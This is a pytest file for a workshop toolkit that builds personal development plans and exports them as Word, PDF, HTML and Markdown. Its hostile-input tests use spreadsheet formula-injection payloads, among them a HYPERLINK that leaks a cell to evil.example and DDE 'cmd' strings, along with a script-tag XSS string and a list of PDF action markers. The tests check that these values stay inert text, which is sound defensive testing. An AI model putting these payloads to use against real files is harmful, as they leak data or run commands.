"""The plan as appraisal documents: Word and PDF laid out as a PDP, drafts of objectives, hostile text kept as text."""

from __future__ import annotations

import dataclasses
import datetime as dt
import io
import logging
import re
import zipfile

import pytest

from hostile_corpus import HOSTILE, STORE
from workshop_kit.catalogue.model import default_catalogue
from workshop_kit.summaries.objectives import suggest_objectives
from workshop_kit.views.plan import MODEL_STEP_NONE, Objective, build_plan
from workshop_kit.views.plan_documents import document_text, pdp_parts, plan_docx, plan_pdf
from workshop_kit.store.responses import ResponseStore

WHO = {"participant": "Sam Patel", "cohort": "north-2026"}
TODAY = dt.date(2026, 2, 3)
FORMULAS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open my plan")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
)
CONTROL = ("good\x00answer", "ring \x07 ring", "\x1b[31mred\x1b[0m", "a\x85b", "page\x0cbreak", "lone \ud800 surrogate", "not a char \uffff")


@pytest.fixture(autouse=True)
def _isolated(tmp_path, monkeypatch):
    monkeypatch.setenv("WORKSHOP_KIT_PROFILE", str(tmp_path / "profile.json"))
    monkeypatch.delenv("WORKSHOP_KIT_COHORT", raising=False)
    monkeypatch.delenv("WORKSHOP_KIT_ROOM", raising=False)


@pytest.fixture
def store(tmp_path):
    with ResponseStore(tmp_path / "answers.sqlite") as s:
        yield s


def fill(store):
    store.save("goal.statement", "Every clinician in our ICS sees one record", **WHO)
    store.save("risk.appetite", {"now": 3, "target": 7}, **WHO)
    store.save("brand.attributes", ["Strategic", "Decisive", "Innovative"], **WHO)
    store.save("development.needs", ["Coaching", "Finance", "Shadowing a chief executive"], **WHO)
    store.save("relationships.log", [{"stakeholder": "Medical director", "deliverable": "Fix single sign-on on wards", "due": "2026-05-31", "status": "Planned"}], **WHO)
    store.save("iwe.learning-commitment", "Read one board paper a week from outside IT", **WHO)


def docx_text(data: bytes) -> tuple[str, str]:
    """(every paragraph and table cell as text, the raw document XML) of a .docx."""
    import docx

    document = docx.Document(io.BytesIO(data))
    texts = [p.text for p in document.paragraphs]
    texts += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = z.read("word/document.xml").decode("utf-8")
    return "\n".join(texts), xml


def pdf_text(data: bytes) -> str:
    from pypdf import PdfReader

    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


def squash(text: str) -> str:
    return re.sub(r"\s+", "", text)


class TestSuggestions:
    def test_drafts_from_answers_save_as_the_objectives_exercise(self, store):
        """Drafts come from the participant's own answers, at most five, and are a valid answer to plan.objectives."""
        fill(store)
        drafts = suggest_objectives(store.catalogue, store.my_answers(**WHO), today=TODAY)
        assert 3 <= len(drafts) <= 5
        assert "Every clinician in our ICS sees one record" in drafts[0]["what"]
        assert any("from 3 to 7" in d["what"] for d in drafts)
        assert all(d["support"] for d in drafts) and "Coaching" in drafts[0]["support"]
        assert all(dt.date.fromisoformat(d["by_when"]) > TODAY for d in drafts)
        store.save("plan.objectives", drafts, **WHO)  # raises if a draft breaks a field's limit

    def test_long_answers_are_cut_to_the_field_limit(self, store):
        """A long goal makes a draft no longer than the field allows."""
        store.save("goal.statement", "word " * 55, **WHO)  # 275 characters, under its limit of 280
        (draft,) = suggest_objectives(store.catalogue, store.my_answers(**WHO), today=TODAY)
        assert len(draft["what"]) <= 200 and draft["what"].endswith("…")

    def test_nothing_saved_gives_one_empty_row_to_fill(self, store):
        """With no answers there is one row to write in, with a date a year on."""
        assert suggest_objectives(store.catalogue, {}, today=TODAY) == [
            {"what": "", "how": "", "support": "To agree with my line manager or appraiser", "by_when": "2027-02-03", "measure": ""}
        ]

    def test_widget_drafts_without_saving_and_keeps_filled_rows(self, store, caplog):
        """'Draft from my answers' fills rows on screen only; a row already typed in is kept; Save stores them."""
        import workshop_kit as kit

        caplog.set_level(logging.WARNING)
        fill(store)
        widget = kit.exercise("plan.objectives", store=store, **WHO)
        widget.rows[0].controls["what"].value = "My own first objective"
        widget.draft_button.click()
        assert not [r for r in caplog.records if "Exception in callback" in r.getMessage()]
        assert store.latest("plan.objectives", **WHO) is None
        assert widget.get_answer()[0]["what"] == "My own first objective" and len(widget.rows) == 5
        assert "Edit them, then press Save" in widget.draft_note.value
        assert widget.save().ok
        assert [o.what for o in build_plan(store, **WHO).objectives][0] == "My own first objective"


class TestLayout:
    def test_parts_follow_a_personal_development_plan(self, store):
        """Objectives, development needs, commitments with dates, where I am heading, a review box, and the credit."""
        fill(store)
        store.save("plan.objectives", suggest_objectives(store.catalogue, store.my_answers(**WHO), today=TODAY), **WHO)
        parts = pdp_parts(build_plan(store, **WHO, today=TODAY))
        headings = [p.text for p in parts if p.kind == "h1"]
        assert headings == ["1. My development objectives", "2. My development needs", "3. My commitments", "4. Where I am heading", "5. Review"]
        objective = next(p for p in parts if p.kind == "pairs" and p.rows[0][0] == "What I will achieve")
        assert [label for label, _ in objective.rows] == ["What I will achieve", "How I will do it", "Support I need", "By when", "How I will know"]
        commitments = next(p for p in parts if p.kind == "table" and p.headers[0] == "Commitment")
        assert commitments.rows[0] == ("Fix single sign-on on wards", "Medical director", "31 May 2026", "Planned")
        assert any("Owen Powell and Gareth Baxendale" in p.text for p in parts)

    @pytest.mark.slow
    def test_model_view_comes_from_the_participants_own_answers(self, store, tmp_path):
        """The needs section names where this participant's own scale answers show most room to grow (issue 15's view)."""
        fill(store)
        store.save("development.comfort", {"now": 2, "target": 9}, **WHO)
        plan = build_plan(store, **WHO, today=TODAY)
        assert plan.focus[0].dimension == "Inspiring shared purpose" and "inspiring shared purpose" in plan.model_step
        words, _xml = docx_text(plan_docx(plan))
        for shown in (words, pdf_text(plan_pdf(plan))):
            assert squash(plan.model_step) in squash(shown)
            for dimension in plan.focus:
                assert squash(dimension.dimension) in squash(shown)
            assert "touched least" not in shown
        with ResponseStore(tmp_path / "empty.sqlite") as empty:
            texts = [p.text for p in pdp_parts(build_plan(empty, **WHO, today=TODAY))]
        assert MODEL_STEP_NONE in texts and not any("most room to grow on" in t for t in texts)

    def test_fewer_than_three_objectives_says_so(self, store):
        """A plan with no objectives yet says where to write three to five."""
        text = pdf_text(plan_pdf(build_plan(store, **WHO, today=TODAY)))
        assert "three to five objectives" in text and "notebook 11" in text

    def test_docx_and_pdf_carry_the_plan(self, store):
        """The Word and PDF files hold the objectives, needs, commitments and credit."""
        fill(store)
        store.save("plan.objectives", suggest_objectives(store.catalogue, store.my_answers(**WHO), today=TODAY), **WHO)
        plan = build_plan(store, **WHO, today=TODAY)
        words, _xml = docx_text(plan_docx(plan))
        text = pdf_text(plan_pdf(plan))
        for shown in (words, text):
            for expected in ("Personal development plan", "Sam Patel", "Objective 3", "Shadowing a chief executive (my own)", "Fix single sign-on on wards", "31 May 2026", "Gareth Baxendale"):
                assert squash(expected) in squash(shown), expected


def hostile_plan(store, values):
    """A plan whose objectives, commitments, needs and name carry the given values verbatim (past the store's checks)."""
    plan = build_plan(store, **WHO, today=TODAY)
    objectives = tuple(Objective(what=v, how=v, support=v, by_when=v, measure=v) for v in values)
    return dataclasses.replace(plan, objectives=objectives, needs=tuple(values), display_name="Sam <b>Patel</b>")


HOSTILE_TEXT = [h.value for h in HOSTILE if h.as_text == STORE and isinstance(h.value, str) and h.value.strip() and len(h.value) < 900]


class TestHostileText:
    @pytest.mark.parametrize("values", [HOSTILE_TEXT[i : i + 12] for i in range(0, len(HOSTILE_TEXT), 12)] + [list(FORMULAS), list(CONTROL)], ids=lambda v: f"{len(v)}-values")
    def test_docx_keeps_it_as_text(self, store, values):
        """In Word every value is plain text: no field, hyperlink or markup comes from it, and it reads back as typed."""
        words, xml = docx_text(plan_docx(hostile_plan(store, values)))
        assert "<w:fldSimple" not in xml and "<w:instrText" not in xml and "<w:hyperlink" not in xml
        assert "<script" not in xml.casefold() and "<b>" not in xml
        for value in values:
            assert document_text(value).replace("\n", "") in words.replace("\n", ""), value

    @pytest.mark.slow
    @pytest.mark.parametrize("values", [HOSTILE_TEXT[i : i + 12] for i in range(0, len(HOSTILE_TEXT), 12)] + [list(FORMULAS), list(CONTROL)], ids=lambda v: f"{len(v)}-values")
    def test_pdf_keeps_it_as_text(self, store, values):
        """In the PDF no value becomes a link, an action or script; plain values read back as typed."""
        data = plan_pdf(hostile_plan(store, values))
        for marker in (b"/URI", b"/JavaScript", b"/JS", b"/Launch", b"/AA", b"/SubmitForm", b"/Annots"):
            assert marker not in data, marker
        assert re.findall(rb"/OpenAction\s*(\S)", data) in ([], [b"["]), "opening may only show the first page, never run an action"
        text = squash(pdf_text(data))
        for value in values:
            if value.isascii() and value.isprintable():
                assert squash(value) in text, value

    def test_control_characters_show_as_replacement(self):
        """Characters a document cannot hold become "�"; line endings become new lines; the rest is untouched."""
        assert document_text("good\x00answer") == "good\ufffdanswer"
        assert document_text("a\x85b\x1b[0m") == "a\ufffdb\ufffd[0m"
        assert document_text("one\r\ntwo\rthree\tfour") == "one\ntwo\nthree    four"
        assert document_text("=HYPERLINK(\"x\") <b>ok</b> 👩‍⚕️") == "=HYPERLINK(\"x\") <b>ok</b> 👩‍⚕️"

    def test_exported_files_from_a_hostile_store(self, store, tmp_path):
        """End to end: markup and formulas saved as answers come out as text in all four exported files."""
        from workshop_kit.views.plan import export_plan

        value = '<script>alert(1)</script> =HYPERLINK("https://evil.example","x")'
        store.save("goal.statement", value, **WHO)
        store.save("plan.objectives", [{"what": value, "how": "+cmd|' /C calc'!A0", "support": "", "by_when": "2026-12-31", "measure": "@SUM(1)"}], **WHO)
        paths = export_plan(build_plan(store, **WHO, today=TODAY), tmp_path)
        words, xml = docx_text(paths.docx.read_bytes())
        assert value in words and "<w:fldSimple" not in xml and "<w:hyperlink" not in xml
        assert squash(value) in squash(pdf_text(paths.pdf.read_bytes()))
        assert "<script>" not in paths.html.read_text(encoding="utf-8")
        assert "\\<script\\>" in paths.markdown.read_text(encoding="utf-8")


def test_catalogue_objectives_exercise():
    """plan.objectives is a private log of at most five rows with the five PDP fields, in notebook 11's section."""
    ex = default_catalogue().exercise("plan.objectives")
    assert ex.kind == "log" and ex.sensitive and ex.max_rows == 5 and ex.section == "development-plan"
    assert [f.name for f in ex.fields] == ["what", "how", "support", "by_when", "measure"]
